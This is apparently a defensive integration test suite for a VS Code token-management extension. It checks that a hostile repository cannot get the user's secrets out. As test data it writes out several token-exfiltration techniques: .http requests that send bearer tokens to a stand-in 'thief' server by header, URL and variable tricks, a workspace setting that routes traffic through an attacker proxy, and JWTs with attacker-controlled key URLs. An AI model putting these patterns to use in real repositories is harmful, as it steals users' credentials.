import assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { eventually } from '../support/eventually';
import { jwt } from '../support/jwts';
import { freshId, issuerWith, run, server } from './environment';
import { requestsVariable } from './given';
import { attempts, type Attempt, type End } from './hostile-profiles';
import { startThief, type Thief } from '../support/thief';

/** The codes that a command may end with while the user says yes to nothing. No one answers questions here. */
const codes: Record<End, readonly string[]> = {
  'not allowed': ['access-denied', 'interaction-required', 'cancelled'],
  invalid: ['profile-invalid', 'insecure-endpoint'],
};

const folder = () => {
  const [first] = vscode.workspace.workspaceFolders ?? [];
  assert.ok(first);
  return first;
};
const file = (path: string) => vscode.Uri.joinPath(folder().uri, path);
const write = (path: string, text: string) => vscode.workspace.fs.writeFile(file(path), new TextEncoder().encode(text));

/** How a command ended, with every prompt and message closed that it opens. */
async function ended(command: string, argument?: unknown): Promise<{ value?: unknown; code?: string }> {
  let end: { value?: unknown; code?: string } | undefined;
  Promise.resolve(run(command, argument)).then(
    (value) => (end = { value }),
    (error: Error & { code?: string }) => (end = { code: error.code ?? error.message }),
  );
  return eventually(`the end of ${command}`, async () => {
    if (end === undefined) {
      await vscode.commands.executeCommand('workbench.action.closeQuickOpen');
      await vscode.commands.executeCommand('notifications.clearAll');
    }
    return end;
  });
}

/** How many requests have reached the user's own providers. */
async function requests(): Promise<number> {
  return ((await (await fetch(process.env[requestsVariable] ?? '')).json()) as unknown[]).length;
}

describe('a hostile repository', () => {
  let thief: Thief;
  /** What must never reach anyone else: the user's secret and tokens. */
  const secrets: string[] = [];
  const rows: (Attempt & { id: string; text: string })[] = [];

  const { issuer = '', clients } = server().tenants.keycloak;
  const { clientId: loginClientId } = server().faults.clients.public;
  const loginIssuer = issuerWith();
  const { clientId = '', clientSecret = '' } = clients.m2m ?? {};
  const own = { grant: 'client_credentials', issuer, clientId, clientAuth: 'client_secret_post' };
  const mine = freshId('mine');
  const login = freshId('my-login');

  /** The rows, which need no server to be listed. */
  const listed = (origin: string) => attempts({ issuer, clientId, own, loginIssuer, loginClientId, thief: origin });

  before(async () => {
    thief = await startThief();
    for (const [index, attempt] of listed(thief.origin).entries()) {
      const { profile } = attempt;
      const fields = typeof profile === 'string' ? undefined : { id: `hostile-${index}`, ...profile };
      if (fields?.id === 'mine') fields.id = mine;
      const id = fields?.id ?? /"id": "([a-z]+)"/.exec(String(profile))?.[1] ?? '';
      rows.push({ ...attempt, id, text: fields === undefined ? String(profile) : JSON.stringify(fields) });
    }
    await run('addProfile', { ...own, id: mine, clientSecret });
    const personal = { grant: 'authorization_code', issuer: loginIssuer, clientId: loginClientId };
    await run('addProfile', { ...personal, id: login, scope: 'openid' });
    secrets.push(clientSecret, await run<string>('getToken', mine), await run<string>('getToken', login));
    await write(
      '.vscode/token-deck.json',
      `{ "version": 1, "profiles": [\n${rows.map(({ text }) => text).join(',\n')}\n] }`,
    );
    await run('selectProfile', `team:${folder().name}:${rows[0]?.id ?? ''}`);
  });

  afterEach(() => {
    assert.deepEqual(thief.reached, [], 'nothing reaches the repository’s own server');
  });

  after(async () => {
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    await write('.vscode/token-deck.json', JSON.stringify({ version: 1, profiles: [] }));
    for (const id of [mine, login]) await run('removeProfile', `personal:${id}`);
    await thief.close();
  });

  describe('gets nothing by a profile that', () => {
    for (const [index, { what, end }] of listed('http://127.0.0.1:1').entries()) {
      it(what, async () => {
        const { id } = rows[index] ?? assert.fail();
        const profile = `team:${folder().name}:${id}`;
        const before = await requests();
        const tries: [command: string, argument: object][] = [
          ['getToken', { profile, interactive: false }],
          ['getToken', { profile, forceRefresh: true }],
          ['copyAuthorizationHeader', { profile }],
          ['duplicateProfile', { profile }],
        ];
        for (const [command, argument] of tries) {
          const { value, code = '' } = await ended(command, argument);
          assert.equal(value, undefined, `${command} returned something`);
          // What cannot be done yet may still be copied once it is allowed, so copying asks first.
          const allowed = command === 'duplicateProfile' ? [...codes[end], ...codes['not allowed']] : codes[end];
          assert.ok(allowed.includes(code), `${command} ended with ${code}`);
        }
        await ended('verifyJwt', { token: jwt({ iss: thief.origin }), profile });
        await ended('signOut', { profile });
        assert.equal(await requests(), before, 'nor does anything reach the user’s own providers');
      });
    }
  });

  it('has at least 40 profiles, of every kind of end', () => {
    assert.ok(rows.length >= 40, `${rows.length} profiles`);
    for (const end of Object.keys(codes) as End[])
      assert.ok(
        rows.some((row) => row.end === end),
        end,
      );
    assert.equal(new Set(rows.map(({ what }) => what)).size, rows.length, 'each has a name of its own');
  });

  it('leaves the user’s own profiles as they were', async () => {
    const [, token, loginToken] = secrets;
    for (const [id, expected] of [
      [mine, token],
      [login, loginToken],
    ] as const)
      assert.equal(await run('getToken', { profile: `personal:${id}`, interactive: false }), expected);
    assert.equal((await ended('getToken', { profile: mine, interactive: false })).code, 'profile-ambiguous');
  });

  it('gets no request by files that are opened and hovered over', async () => {
    const token = jwt(
      { iss: thief.origin, sub: 'x', exp: Math.floor(Date.now() / 1000) + 3600 },
      { alg: 'RS256', jku: `${thief.origin}/jwks`, x5u: `${thief.origin}/x5u`, kid: thief.origin },
    );
    const before = await requests();
    await write('notes.md', `[x](${thief.origin}/link) ![x](command:tokenDeck.getToken)\n\n${token}\n`);
    await write('call.http', `GET ${thief.origin}/api\nAuthorization: Bearer ${token}\n`);
    for (const path of ['notes.md', 'call.http', '.vscode/token-deck.json']) {
      const document = await vscode.workspace.openTextDocument(file(path));
      await vscode.window.showTextDocument(document);
      const at = document.positionAt(Math.max(0, document.getText().indexOf(token)) + 5);
      await vscode.commands.executeCommand('vscode.executeHoverProvider', document.uri, at);
      await vscode.commands.executeCommand('vscode.executeCodeLensProvider', document.uri, 100);
      await vscode.commands.executeCommand('vscode.executeLinkProvider', document.uri, 100);
    }
    await run('decodeJwt', { token });
    for (const argument of [{ token }, { token, profile: `personal:${mine}` }, { token, issuer: thief.origin }]) {
      const { value } = await ended('verifyJwt', argument);
      assert.notEqual((value as { valid?: boolean } | undefined)?.valid, true);
    }
    const named = (await requests()) - before;
    assert.ok(named <= 2, 'only the user’s own issuer is asked for keys, and for its metadata');
  });

  it('cannot change a setting that says who gets a token, or by whom it is sent', async () => {
    const get = (name: string): unknown => vscode.workspace.getConfiguration().get(name);
    // Those of VS Code itself would lead every request through the repository’s proxy, whatever certificate it shows.
    const hostile = {
      'tokenDeck.automation': 'deny',
      'tokenDeck.persistTokens': false,
      'tokenDeck.clipboard.clearAfter': 1,
      'tokenDeck.audit.enabled': false,
      'tokenDeck.jwt.allowNetwork': 'ask',
      'http.proxy': thief.origin,
      'http.proxySupport': 'override',
      'http.proxyStrictSSL': false,
    };
    const effective = Object.keys(hostile).map(get);
    // One that a repository may set shows that the file was read.
    const marker = 'tokenDeck.hover.enabled';
    await write('.vscode/settings.json', JSON.stringify({ ...hostile, [marker]: false }));
    try {
      await eventually('the settings', () => get(marker) === false);
      assert.deepEqual(Object.keys(hostile).map(get), effective);
      secrets.push(await run<string>('getToken', { profile: `personal:${mine}`, forceRefresh: true }));
    } finally {
      await vscode.workspace.fs.delete(file('.vscode/settings.json'));
      await eventually('the settings of before', () => get(marker) === true);
    }
  });

  /** What a repository's request has in it, beside the line of the request: one row each. `ID` is a reference's name. */
  const files: [what: string, text: (id: string) => string, profile: string][] = [
    [
      'names a profile of the repository',
      (id) => `Authorization: Bearer {{$processEnv ${id}}}`,
      'names the thief in origins',
    ],
    ['names the copy of the user’s own', (id) => `X-Token: {{$processEnv ${id}}}`, 'is the user’s own, copied'],
    ['names two profiles at once', (id) => `Authorization: Bearer {{$processEnv ${id}}}`, 'has the user’s id'],
    ['names a profile in its body', (id) => `\n{ "t": "{{$processEnv ${id}}}" }`, 'hands out a pasted token'],
    [
      'names a profile that cannot be used',
      (id) => `Authorization: Bearer {{$processEnv ${id}}}`,
      'names every host in origins',
    ],
    ['names a profile that there is not', () => 'Authorization: Bearer {{$processEnv TOKEN_DECK_NOBODY}}', ''],
  ];

  /** How a repository's request leads a token of the user's own profile elsewhere: the whole file, one row each. */
  const detours: [what: string, text: (thief: string, host: string, reference: string) => string][] = [
    ['names the user’s own profile', (thief, _host, token) => `POST ${thief}/api\nAuthorization: Bearer ${token}`],
    ['has the user’s own token in another header', (thief, _host, token) => `POST ${thief}/api\nX-Token: ${token}`],
    ['has the user’s own token in its address', (thief, _host, token) => `GET ${thief}/api?t=${token}`],
    [
      'has its address in a variable',
      (thief, _host, token) => `@base = ${thief}\n\n###\nGET {{base}}/api\nAuthorization: Bearer ${token}`,
    ],
    [
      'has the token in a variable',
      (thief, _host, token) => `@auth = Bearer ${token}\n\n###\nGET ${thief}/api\nAuthorization: {{auth}}`,
    ],
    ['has its host in a header', (_thief, host, token) => `GET /api\nHost: ${host}\nAuthorization: Bearer ${token}`],
    [
      'looks as if it went elsewhere',
      (_thief, host, token) => `GET https://api.example.com@${host}/api\nAuthorization: Bearer ${token}`,
    ],
    [
      'goes elsewhere by its next line',
      (_thief, host, token) => `GET https://api.example.com\n&x=@${host}/api\nAuthorization: Bearer ${token}`,
    ],
    [
      'goes elsewhere by a script',
      (thief, _host, token) => `{{\n  exports.base = '${thief}';\n}}\nGET {{base}}/api\nAuthorization: Bearer ${token}`,
    ],
    [
      'goes where the environment says',
      (thief, _host, token) => `# ${thief}\nGET {{$processEnv HOME}}/api\nAuthorization: Bearer ${token}`,
    ],
  ];

  describe('gets nothing by a request that', () => {
    let sender: vscode.Disposable;
    let sent: string[];

    before(() => {
      // A sender such as REST Client, which reads the environment of this process.
      sender = vscode.commands.registerCommand('rest-client.request', async () => {
        const text = vscode.window.activeTextEditor?.document.getText() ?? '';
        sent.push(
          text.replace(/\{\{\$processEnv (\w+)\}\}/g, (_: string, name: string): string => process.env[name] ?? ''),
        );
      });
    });
    beforeEach(() => {
      sent = [];
    });
    after(() => {
      sender.dispose();
    });

    const variable = (id: string) => `TOKEN_DECK_${id.toUpperCase().replace(/\W/g, '_')}`;
    const texts: [what: string, text: () => string][] = [
      ...files.map(([what, text, profile]): [string, () => string] => {
        const id = () => rows.find((row) => row.what === profile)?.id ?? '';
        return [what, () => `POST ${thief.origin}/api\n${text(variable(id()))}`];
      }),
      ...detours.map(([what, text]): [string, () => string] => [
        what,
        () => text(thief.origin, new URL(thief.origin).host, `{{$processEnv ${variable(login)}}}`),
      ]),
    ];
    for (const [index, [what, text]] of texts.entries()) {
      it(what, async () => {
        await write(`call-${index}.http`, text());
        const document = await vscode.workspace.openTextDocument(file(`call-${index}.http`));
        const editor = await vscode.window.showTextDocument(document);
        const end = document.lineAt(document.lineCount - 1).range.end;
        editor.selection = new vscode.Selection(end, end);
        const before = await requests();
        await ended('ui.sendRequest');
        assert.deepEqual(sent, [], 'it is not sent');
        assert.equal(await requests(), before);
        assert.deepEqual(
          Object.keys(process.env).filter(
            (name) => name.startsWith('TOKEN_DECK_') && secrets.includes(process.env[name] ?? ''),
          ),
          [],
          'no token is left in the environment',
        );
        await vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor');
      });
    }
  });

  it('is not allowed by secrets that a program stores for its profiles, nor by the user’s own afterwards', async function () {
    // Hundreds of calls.
    this.timeout(120_000);
    const before = await requests();
    const refused = async (id: string): Promise<void> => {
      for (const interactive of [true, false]) {
        const { value, code = '' } = await ended('getToken', { profile: `team:${folder().name}:${id}`, interactive });
        assert.equal(value, undefined);
        assert.ok(codes['not allowed'].includes(code), `${id}: ${code}`);
      }
    };
    const asked = rows.filter(({ end }) => end === 'not allowed');
    for (const { id } of asked) {
      for (const kind of ['clientSecret', 'password', 'token'])
        await run('setSecret', { profile: `team:${folder().name}:${id}`, kind, value: 'planted' });
      await refused(id);
    }
    await run('setSecret', { profile: `personal:${mine}`, kind: 'clientSecret', value: clientSecret });
    for (const { id } of asked) await refused(id);
    assert.equal(await requests(), before);
  });
});
